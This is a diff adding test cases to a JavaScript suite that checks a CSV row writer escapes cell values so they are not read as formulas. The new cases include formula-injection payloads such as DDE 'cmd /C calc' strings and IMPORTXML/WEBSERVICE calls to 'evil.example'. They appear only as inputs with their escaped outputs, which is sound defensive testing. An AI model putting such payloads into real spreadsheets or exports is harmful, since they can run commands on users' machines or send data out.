@@ -19,6 +19,20 @@ describe('A row of a CSV file', () => {
     ['\t=1', `'\t'=1`],
     ['\r=1', `'\r'=1`],
     ['＝1+1', `'＝1+1`],
+    ['＋1', `'＋1`],
+    ['－1', `'－1`],
+    ['＠SUM(A1)', `'＠SUM(A1)`],
+    ['\n=1', `'\n'=1`],
+    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
+    ["@SUM(1+9)*cmd|' /C calc'!A0", `'@SUM(1+9)*cmd|' /C calc'!A0`],
+    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|"" /C calc""!A0`],
+    ['=IMPORTXML("https://evil.example")', `'=IMPORTXML(""https://evil.example"")`],
+    ['=WEBSERVICE("https://evil.example")', `'=WEBSERVICE(""https://evil.example"")`],
+    ['=DDE("cmd";"/C calc";"1")', `'=DDE(""cmd"";""/C calc"";""1"")`],
+    ['+-1', `'+-1`],
+    ['--1', `'--1`],
+    ['==1', `'==1`],
+    ['\r\n@a', `'\r\n'@a`],
   ])('is no formula for %j', (text, cell) => {
     expect(csvRow([text])).toBe(`"${cell}"\r\n`);
   });
